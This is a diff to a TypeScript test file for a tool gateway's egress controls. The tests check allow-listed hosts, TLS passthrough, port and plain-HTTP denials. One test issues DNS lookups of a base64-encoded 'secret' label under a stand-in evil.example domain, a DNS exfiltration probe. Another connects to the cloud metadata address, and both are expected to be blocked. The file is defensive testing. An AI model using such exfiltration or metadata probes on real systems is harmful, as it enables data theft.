@@ -8,7 +8,7 @@ import { fixtureCommand } from "@toolcrib/testing";
 import { somebody, startTestGateway, type TestGateway, textOf } from "./gateway-harness.ts";
 import { startTestApi } from "./toolspec-harness.ts";
 
-const networkServer = (id: string, egress_allow: readonly string[]): JsonObject => ({
+const networkServer = (id: string, egress_allow: readonly (string | JsonObject)[]): JsonObject => ({
   id,
   trust_state: "verified",
   transport: { kind: "stdio", ...fixtureCommand(join(import.meta.dirname, "fixtures/network-stdio.ts")) },
@@ -19,6 +19,71 @@ async function call({ gateway }: TestGateway, id: string, args: JsonObject): Pro
   const outcome = await gateway.call(somebody, id, args);
   return outcome.kind === "result" ? textOf(outcome.result) : JSON.stringify(outcome);
 }
+
+it("a program that looks names up itself and ignores the proxy reaches the same hosts", async () => {
+  await using api = await startTestApi();
+  const document = {
+    egress: api.egress,
+    tool_servers: [
+      networkServer("acme", ["api.acme.example"]),
+      networkServer("any", [
+        { host: "*.acme.example", tls: "passthrough" },
+        { host: "api.beta.example:8443", tls: "passthrough" },
+      ]),
+    ],
+  };
+  await using test = await startTestGateway(document, { files: {} });
+  for (const id of ["acme", "any"]) {
+    assert.match(
+      await call(test, `${id}:direct`, { url: "https://api.acme.example/owners/x/repos" }),
+      /^200 /,
+    );
+    assert.match(await call(test, `${id}:resolve`, { host: "API.acme.example" }), /^\["198\.18\.0\.\d+"\]$/);
+    assert.equal(await call(test, `${id}:resolve`, { host: "api.acme.example", type: "AAAA" }), "ENODATA");
+    // A name that is looked up carries nothing out: no resolver outside is asked for it.
+    for (const type of ["A", "TXT", "MX", "CNAME"]) {
+      assert.equal(await call(test, `${id}:resolve`, { host: "c2VjcmV0.evil.example", type }), "ENOTFOUND");
+    }
+    assert.match(
+      await call(test, `${id}:direct`, { url: "https://www.beta.example/" }),
+      /^failed: ENOTFOUND/,
+    );
+    assert.match(
+      await call(test, `${id}:direct`, { url: "https://198.18.9.9/" }),
+      /^failed: (?:ECONNRESET|EPIPE)/,
+    );
+    assert.match(
+      await call(test, `${id}:direct`, { url: "http://api.acme.example/owners" }),
+      /^403 .*EGRESS_PLAIN_HTTP/,
+    );
+  }
+  const port = { url: "https://api.beta.example:8443/owners/x/repos" };
+  assert.match(await call(test, "any:direct", port), /^200 /);
+  assert.match(
+    await call(test, "any:direct", { url: "https://api.beta.example/" }),
+    /^failed: (?:ECONNRESET|EPIPE)/,
+  );
+  await test.stop();
+  const denied = test
+    .audit()
+    .flatMap(({ type, data }) =>
+      type === "egress.denied" ? [`${data.server} ${data.host} ${data.code}`] : [],
+    );
+  const asked = denied.filter((line) => line === "acme c2vjcmv0.evil.example EGRESS_HOST_DENIED");
+  assert.equal(asked.length, 1, denied.join("\n"));
+  assert.ok(denied.includes("any api.beta.example EGRESS_PORT_DENIED"), denied.join("\n"));
+});
+
+it("a host with tls: passthrough is reached unread, and the status says what that means", async () => {
+  await using api = await startTestApi();
+  const passed = { host: "*.acme.example", tls: "passthrough" };
+  const document = { egress: api.egress, tool_servers: [networkServer("acme", [passed])] };
+  await using test = await startTestGateway(document, { files: {} });
+  assert.match(await call(test, "acme:get", { url: "https://api.acme.example/owners/x/repos" }), /^200 /);
+  assert.match(await call(test, "acme:get", { url: "https://api.beta.example/" }), /^failed/);
+  const [server] = test.gateway.status().servers;
+  assert.deepEqual(server?.containment?.frontingHosts, ["*.acme.example"]);
+});
 
 it("a server reaches the hosts of egress_allow and nothing else", async () => {
   await using api = await startTestApi();
@@ -49,10 +114,9 @@ it("a server reaches the hosts of egress_allow and nothing else", async () => {
     await call(test, "acme:connect", { host: "169.254.169.254", port: 80 }),
     /ENETUNREACH|EHOSTUNREACH/,
   );
-  assert.match(
-    await call(test, "acme:connect", { host: "api.acme.example", port: 443 }),
-    /EAI_AGAIN|ENOTFOUND/,
-  );
+  assert.equal(await call(test, "acme:connect", { host: "api.acme.example", port: 443 }), "connected");
+  assert.equal(await call(test, "acme:connect", { host: "api.acme.example", port: 8443 }), "ECONNREFUSED");
+  assert.equal(await call(test, "acme:connect", { host: "api.beta.example", port: 443 }), "ENOTFOUND");
   assert.match(await call(test, "acme:get", { url: "http://api.acme.example/" }), /^(?:403|failed)/);
 
   await test.stop();
